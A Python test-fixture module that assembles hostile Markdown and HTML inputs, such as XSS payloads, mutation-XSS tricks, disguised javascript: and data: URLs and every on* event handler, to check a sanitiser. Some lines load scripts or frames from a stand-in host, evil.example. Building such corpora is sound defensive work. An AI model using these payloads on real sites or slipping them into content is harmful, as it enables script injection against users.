"""A corpus of hostile Markdown and HTML inputs for the sanitiser tests.

Built from hand-written payloads (mutation XSS, raw HTML, autolinks) and from systematic
variants: every ``on*`` event attribute, and dangerous URL schemes disguised with case,
whitespace, entities and invisible Unicode, placed in Markdown links, images, reference
links, autolinks and raw HTML attributes.
"""

EVENT_HANDLERS = [
    "onabort", "onafterprint", "onanimationend", "onanimationiteration", "onanimationstart",
    "onauxclick", "onbeforecopy", "onbeforecut", "onbeforeinput", "onbeforepaste",
    "onbeforeprint", "onbeforetoggle", "onbeforeunload", "onbegin", "onblur", "oncancel",
    "oncanplay", "oncanplaythrough", "onchange", "onclick", "onclose", "oncontextmenu",
    "oncopy", "oncuechange", "oncut", "ondblclick", "ondrag", "ondragend", "ondragenter",
    "ondragleave", "ondragover", "ondragstart", "ondrop", "ondurationchange", "onemptied",
    "onend", "onended", "onerror", "onfocus", "onfocusin", "onfocusout", "onformdata",
    "onfullscreenchange", "onhashchange", "oninput", "oninvalid", "onkeydown", "onkeypress",
    "onkeyup", "onload", "onloadeddata", "onloadedmetadata", "onloadstart", "onmessage",
    "onmousedown", "onmouseenter", "onmouseleave", "onmousemove", "onmouseout", "onmouseover",
    "onmouseup", "onmousewheel", "onoffline", "ononline", "onpagehide", "onpageshow", "onpaste",
    "onpause", "onplay", "onplaying", "onpointerdown", "onpointerenter", "onpointerleave",
    "onpointermove", "onpointerout", "onpointerover", "onpointerrawupdate", "onpointerup",
    "onpopstate", "onprogress", "onratechange", "onrepeat", "onreset", "onresize", "onscroll",
    "onscrollend", "onsearch", "onseeked", "onseeking", "onselect", "onselectionchange",
    "onselectstart", "onshow", "onstalled", "onstorage", "onsubmit", "onsuspend",
    "ontimeupdate", "ontoggle", "ontouchend", "ontouchmove", "ontouchstart",
    "ontransitioncancel", "ontransitionend", "ontransitionrun", "ontransitionstart",
    "onunload", "onvolumechange", "onwaiting", "onwebkitanimationend", "onwheel",
]  # fmt: skip

# Tags that an event attribute is tried on, cycled through the list above.
EVENT_CARRIERS = [
    '<img src="x.png" {attr}="alert(1)">',
    '<a href="/ok" {attr}="alert(1)">link</a>',
    '<div {attr}="alert(1)">block</div>',
    "<p {attr}=alert(1)>para</p>",
    '<details open {attr}="alert(1)"><summary>s</summary>x</details>',
    '<svg><rect {attr}="alert(1)"/></svg>',
    '<body {attr}="alert(1)">',
    '<h2 {attr}="alert(1)" id="x">Heading</h2>',
    "<table><tr><td {attr}='alert(1)'>cell</td></tr></table>",
    '<span {attr.upper}="alert(1)">shout</span>',
]

# Dangerous URLs, disguised the ways browsers still accept (or used to).
BAD_URLS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java&#x09;script:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "jav&Tab;ascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "java\u200bscript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "\u00adjavascript:alert(1)",
    "\x00javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    " data:text/html,<script>alert(1)</script>",
    "livescript:alert(1)",
    "file:///etc/passwd",
    "jar:http://x/y!/z",
    "blob:https://example.org/uuid",
    "filesystem:https://example.org/x",
    "ftp://example.org/x",
    "feed:javascript:alert(1)",
]

URL_CARRIERS = [
    "[click]({url})",
    "![pic]({url})",
    '[click]({url} "title")',
    "[ref link][r1]\n\n[r1]: {url}",
    "![ref img][r2]\n\n[r2]: {url}",
    '<a href="{url}">raw link</a>',
    '<img src="{url}" alt="raw">',
]

HANDWRITTEN = [
    # Script and style, in every spelling.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    '<script type="module">import("//evil.example")</script>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<p style="behavior:url(x.htc)">ie</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="import" href="https://evil.example/x.html">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    '<base href="https://evil.example/">',
    "<title><script>alert(1)</script></title>",
    "<textarea><script>alert(1)</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    # Frames, objects and embeds.
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=javascript:alert(1)>",
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/html" data="https://evil.example"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<embed src="javascript:alert(1)">',
    '<applet code="Evil.class"></applet>',
    '<portal src="https://evil.example"></portal>',
    # Forms and formaction.
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<input type="image" formaction="javascript:alert(1)" src="x">',
    '<input autofocus onfocus="alert(1)">',
    '<select autofocus onfocus="alert(1)"></select>',
    '<textarea autofocus onfocus="alert(1)"></textarea>',
    '<keygen autofocus onfocus="alert(1)">',
    '<isindex action="javascript:alert(1)" type="image">',
    # SVG and MathML, including namespace-confusion mutation tricks.
    '<svg onload="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math href="javascript:alert(1)">click</math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></h1>',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    # Raw HTML mixed into Markdown, comments and conditional comments.
    "**bold** <img src=x onerror=alert(1)> *em*",
    "# Heading <script>alert(1)</script>",
    "> quote <iframe src=//evil.example></iframe>",
    "- item <a href=javascript:alert(1)>x</a>\n- two",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>x</script> |",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<div><!--</div><img src=x onerror=alert(1)>--></div>",
    '<a href="/ok" title="x" onclick=alert(1)//>link</a>',
    '<a href="/ok"title="x"onclick="alert(1)">glued</a>',
    '<a/href="javascript:alert(1)">slash</a>',
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<a href="jav&#x0D;ascript:alert(1)">cr</a>',
    '<a href="  javascript:alert(1)  ">spaces</a>',
    '<a href="javas&#99;ript:alert(1)">entity mid</a>',
    '<a href="&#x6a;avascript&#x3a;alert(1)">entity hex</a>',
    '<img srcset="javascript:alert(1) 1x, x.png 2x">',
    '<img src="x.png" dynsrc="javascript:alert(1)">',
    '<img src="x.png" lowsrc="javascript:alert(1)">',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<video poster="javascript:alert(1)"></video>',
    '<marquee onstart="alert(1)">x</marquee>',
    '<details ontoggle="alert(1)" open>x</details>',
    '<div popover onbeforetoggle="alert(1)">x</div>',
    '<a href="/ok" target="_blank">no opener</a>',
    '<a href="/ok" ping="https://evil.example">ping</a>',
    '<div id="main">steal the page id</div>',
    '<h2 id="main">collide</h2>',
    '<h3 id="messages">collide</h3>',
    '<p class="skip-link message">fake chrome</p>',
    '<code class="language-python onload">x</code>',
    '<div data-hx-get="/admin/" hx-trigger="load" hx-post="/x">htmx</div>',
    '<a href="/ok" hx-get="/admin/" hx-target="body">htmx</a>',
    '<span x-data x-init="alert(1)">alpine</span>',
    '<div is="custom" slot="x" part="y" contenteditable>x</div>',
    "<custom-element onclick=alert(1)>x</custom-element>",
    '<img src="x" alt="a" width="1" height="1" loading="lazy" referrerpolicy="unsafe-url">',
    # Autolinks and bare URLs.
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<mailto:someone@example.org>",
    "<someone@example.org>",
    "<https://example.org/ok>",
    "https://example.org/<script>alert(1)</script>",
    # Markdown links with nested or broken syntax.
    "[a](javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](javascript&#58;alert(1))",
    "[a](j&#97;vascript:alert(1))",
    "[a]( javascript:alert(1) )",
    '[a](javascript:alert(1) "t")',
    "[a](javascript:alert%281%29)",
    "[[a](javascript:alert(1))](https://example.org)",
    '![a](x.png"onerror="alert(1))',
    '![a](x.png "title\\" onerror=\\"alert(1)")',
    '[a](https://example.org"onmouseover="alert(1))',
    "[a]:javascript:alert(1)\n\n[a]",
    "[[matrix:base-strength]]<script>alert(1)</script>",
    "[[matrix:<img src=x onerror=alert(1)>]]",
    "<p>[[matrix:base-strength]]</p><script>alert(1)</script>",
]


def _event_payloads():
    payloads = []
    for position, attr in enumerate(EVENT_HANDLERS):
        carrier = EVENT_CARRIERS[position % len(EVENT_CARRIERS)]
        if "{attr.upper}" in carrier:
            payloads.append(carrier.replace("{attr.upper}", attr.upper()))
        else:
            payloads.append(carrier.replace("{attr}", attr))
    return payloads


def _url_payloads():
    payloads = []
    for position, url in enumerate(BAD_URLS):
        # Each URL in two carriers, so every carrier meets many disguises.
        for offset in (0, 3):
            carrier = URL_CARRIERS[(position + offset) % len(URL_CARRIERS)]
            payloads.append(carrier.replace("{url}", url))
    return payloads


HOSTILE_INPUTS = HANDWRITTEN + _event_payloads() + _url_payloads()
